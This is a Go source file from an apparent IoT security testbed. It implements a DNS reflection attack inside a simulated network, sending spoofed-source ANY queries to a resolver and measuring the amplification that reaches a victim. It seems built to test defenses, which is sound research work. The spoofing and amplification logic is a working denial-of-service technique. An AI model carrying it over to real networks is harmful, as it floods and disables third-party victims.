package attack

import (
	"fmt"
	"sync/atomic"
	"time"

	"iotsec/internal/netsim"
	"iotsec/internal/packet"
)

// AmplificationResult reports a DNS-reflection campaign.
type AmplificationResult struct {
	QueriesSent     int
	QueryBytes      int
	ReflectedFrames uint64
	ReflectedBytes  uint64
	// Factor is reflected/query bytes — the amplification the open
	// resolver provides (~0 when the defense blocks it).
	Factor float64
}

// Victim counts reflected traffic arriving at a host — attach its
// stack to the fabric and point amplification at it.
type Victim struct {
	Stack  *netsim.Stack
	frames atomic.Uint64
	bytes  atomic.Uint64
}

// NewVictim binds a counter to the victim's reflected-traffic port.
func NewVictim(st *netsim.Stack, port uint16) (*Victim, error) {
	v := &Victim{Stack: st}
	err := st.HandleUDP(port, func(_ packet.IPv4Address, _ uint16, payload []byte) {
		v.frames.Add(1)
		v.bytes.Add(uint64(len(payload)))
	})
	if err != nil {
		return nil, err
	}
	return v, nil
}

// Counters reports frames/bytes received so far.
func (v *Victim) Counters() (frames, bytes uint64) {
	return v.frames.Load(), v.bytes.Load()
}

// AmplifyDNS sends spoofed DNS queries to the resolver with the
// victim's address as source, so responses reflect onto the victim
// (the Wemo DDoS of Table 1 row 6). Spoofing requires crafting raw
// frames: the attacker needs the resolver's MAC, learned via its own
// stack's ARP (we cheat with a direct query-and-learn helper since the
// fabric floods ARP anyway).
func AmplifyDNS(attacker *netsim.Stack, resolverIP, victimIP packet.IPv4Address, victimPort uint16, queries int) (*AmplificationResult, error) {
	res := &AmplificationResult{}

	// Resolve the resolver's MAC the honest way first.
	if err := attacker.SendUDP(resolverIP, 9, 9, []byte("arp-warm")); err != nil {
		return nil, err
	}
	attacker.Network().Quiesce(time.Second)

	resolverMAC, ok := attacker.LookupARP(resolverIP)
	if !ok {
		return nil, fmt.Errorf("attack: resolver %s did not resolve", resolverIP)
	}

	q := &packet.DNS{
		ID:         0xdead,
		RecDesired: true,
		Questions:  []packet.DNSQuestion{{Name: "big.example.com", Type: packet.DNSTypeANY, Class: packet.DNSClassIN}},
	}
	qb := packet.NewSerializeBuffer()
	if err := q.SerializeTo(qb); err != nil {
		return nil, err
	}
	dnsBytes := make([]byte, qb.Len())
	copy(dnsBytes, qb.Bytes())

	for i := 0; i < queries; i++ {
		udp := &packet.UDP{SrcPort: victimPort, DstPort: 53}
		udp.SetNetworkForChecksum(victimIP, resolverIP) // spoofed source!
		b := packet.NewSerializeBuffer()
		err := packet.SerializeLayers(b,
			&packet.Ethernet{SrcMAC: attacker.MAC(), DstMAC: resolverMAC, EtherType: packet.EtherTypeIPv4},
			&packet.IPv4{SrcIP: victimIP, DstIP: resolverIP, Protocol: packet.IPProtocolUDP},
			udp,
			packet.NewPayload(dnsBytes),
		)
		if err != nil {
			return nil, err
		}
		attacker.InjectFrame(b.Bytes())
		res.QueriesSent++
		res.QueryBytes += len(dnsBytes)
	}
	return res, nil
}

// Finalize folds the victim's counters into the result.
func (r *AmplificationResult) Finalize(v *Victim) {
	r.ReflectedFrames, r.ReflectedBytes = v.Counters()
	if r.QueryBytes > 0 {
		r.Factor = float64(r.ReflectedBytes) / float64(r.QueryBytes)
	}
}
